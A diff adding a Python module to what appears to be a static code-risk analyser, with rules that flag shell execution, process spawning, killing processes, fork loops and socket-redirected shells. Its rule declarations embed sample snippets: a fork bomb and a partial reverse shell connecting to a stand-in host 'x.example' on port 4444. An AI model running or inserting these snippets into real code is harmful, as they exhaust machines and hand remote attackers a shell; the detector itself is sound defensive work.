@@ -1,0 +1,149 @@
+"""Functions of Python that start and end processes."""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from typing import TYPE_CHECKING
+
+from app.risk.commands.table import Command, read_command
+from app.risk.effects import (
+    DOWNLOADED,
+    HIDDEN,
+    run_dynamic,
+)  # fmt: skip
+from app.risk.python import tables
+from app.risk.python.values import ANY, Value
+from app.risk.rules import declare
+from app.risk.words import UNKNOWN, Word
+from assent.contracts import RiskLevel
+
+if TYPE_CHECKING:
+    from app.risk.python.calls import Call
+
+from app.risk.python.dynamic_code import run_code
+from app.risk.python.functions import function
+
+FORK_BOMB = declare(
+    "python.fork_bomb", RiskLevel.CRITICAL, "Starts processes without end.",
+    "import os\nwhile True:\n    os.fork()", "import os\nos.getpid()", language="python",
+)  # fmt: skip
+REVERSE_SHELL = declare(
+    "python.reverse_shell", RiskLevel.CRITICAL, "Gives another machine a shell on this one.",
+    "import socket, os\ns = socket.socket()\ns.connect(('x.example', 4444))\nos.dup2(s.fileno(), 0)",
+    "import socket\ns = socket.socket()\ns.connect(('x.example', 80))", language="python",
+)  # fmt: skip
+ENDS_PROCESS = declare(
+    "python.ends_process", RiskLevel.MEDIUM, "Ends a process.", "import os\nos.kill(4711, 9)", "import os\nos.getpid()",
+    language="python",
+)  # fmt: skip
+
+
+@function(tables.SHELL)
+def _shell(made: Call) -> Value:
+    read_shell(made, made.argument(0, "cmd", "command"))
+    return Value(kind="process")
+
+
+def read_shell(made: Call, value: Value) -> None:
+    """Read a text that a shell runs."""
+    if value.text is None or not value.text.replace(UNKNOWN, "").strip():
+        if made.marks & {"download", "decoded"}:
+            run_code(made, value, "shell")
+        else:
+            run_dynamic(made.reading, made.word(value), made.line)
+        return
+    if "decoded" in value.marks:
+        made.reading.add(HIDDEN, "This decodes a hidden command and runs it.", made.line)
+    _note_files(made, value.text)
+    made.reading.read("shell", value.text.replace(UNKNOWN, "${assent_unknown}"), made.line, fixed=True)
+
+
+@function(tables.RUNS)
+def _run(made: Call) -> Value:
+    given = made.argument(0, "args")
+    shell = "shell" in made.keywords and made.keywords["shell"].name != "builtins.False" and not made.is_false("shell")
+    text = made.argument(99, "input")
+    if given.items is not None and not shell:
+        run_words(made, given.items, text)
+    elif given.items and shell:
+        read_shell(made, given.items[0])
+    elif given.text is not None and not shell and " " not in given.text:
+        run_words(made, (given,), text)
+    else:
+        read_shell(made, given)
+    return Value(kind="process")
+
+
+def run_words(made: Call, items: Iterable[Value], given_input: Value = ANY) -> None:
+    """Read a program that is started with a list of arguments."""
+    words = [made.word(item) for item in items]
+    if not words:
+        return
+    _note_files(made, " ".join(word.text for word in words))
+    known = Word(given_input.text, made.line) if given_input.text is not None else None
+    read_command(Command(words, input=known, input_from="" if known else "unknown"), made.reading)
+
+
+def _note_files(made: Call, text: str) -> None:
+    """Look into files that the text itself has written or downloaded, and runs now."""
+    for path, content in list(made.evaluator.written.items()):
+        if path and path in text:
+            language = "python" if path.endswith(".py") else "shell"
+            made.reading.read(language, content, made.line, fixed=True, within=f"In {path[:60]}: ")
+    for path in made.evaluator.downloaded:
+        if path and path in text:
+            made.reading.add(DOWNLOADED, f"This runs {path[:60]}, which was downloaded before.", made.line)
+
+
+@function(tables.RUNS_LIST)
+def _run_arguments(made: Call) -> Value:
+    leave = 1 if ".spawn" in made.shown else 0
+    items = made.arguments[leave:]
+    # The first argument is the program; of exec and spawn, the second is its name again.
+    run_words(made, [items[0], *items[2:]] if ".create_" not in made.shown and len(items) > 1 else items)
+    return Value(kind="process")
+
+
+@function(tables.RUNS_ARGV)
+def _run_vector(made: Call) -> Value:
+    if made.method == "spawn" and "socket" in made.evaluator.facts:
+        made.reading.add(REVERSE_SHELL, "This gives another machine a shell on this one.", made.line)
+    arguments = made.arguments[1:] if made.method.startswith("spawnv") else made.arguments
+    if not arguments:
+        return ANY
+    program, rest = arguments[0], arguments[1].items if len(arguments) > 1 else None
+    if program.items is not None:
+        run_words(made, program.items)
+    elif rest is not None:
+        run_words(made, [program, *rest[1:]])
+    elif len(arguments) > 1:
+        run_dynamic(made.reading, made.word(ANY), made.line)
+    else:
+        run_words(made, [program])
+    return Value(kind="process")
+
+
+@function(["os.dup2"])
+def _duplicate(made: Call) -> Value:
+    if "socket" in made.evaluator.facts:
+        made.reading.add(REVERSE_SHELL, "This connects a program's input and output to another machine.", made.line)
+    return ANY
+
+
+@function(["os.fork"])
+def _fork(made: Call) -> Value:
+    if made.evaluator.loops:
+        made.reading.add(FORK_BOMB, "This starts processes in a loop until the machine stops answering.", made.line)
+    return ANY
+
+
+@function(["os.kill", "os.killpg", "psutil.Process.kill", "psutil.Process.terminate"])
+def _kill(made: Call) -> Value:
+    target = made.argument(0, "pid")
+    all_of_them = target.number in (-1, 0, 1)
+    level = (
+        RiskLevel.CRITICAL if target.number in (-1, 1) else RiskLevel.HIGH if made.evaluator.loops else RiskLevel.MEDIUM
+    )
+    words = "This ends every process." if all_of_them else "This ends a process."
+    made.reading.add(ENDS_PROCESS, words, made.line, level)
+    return ANY
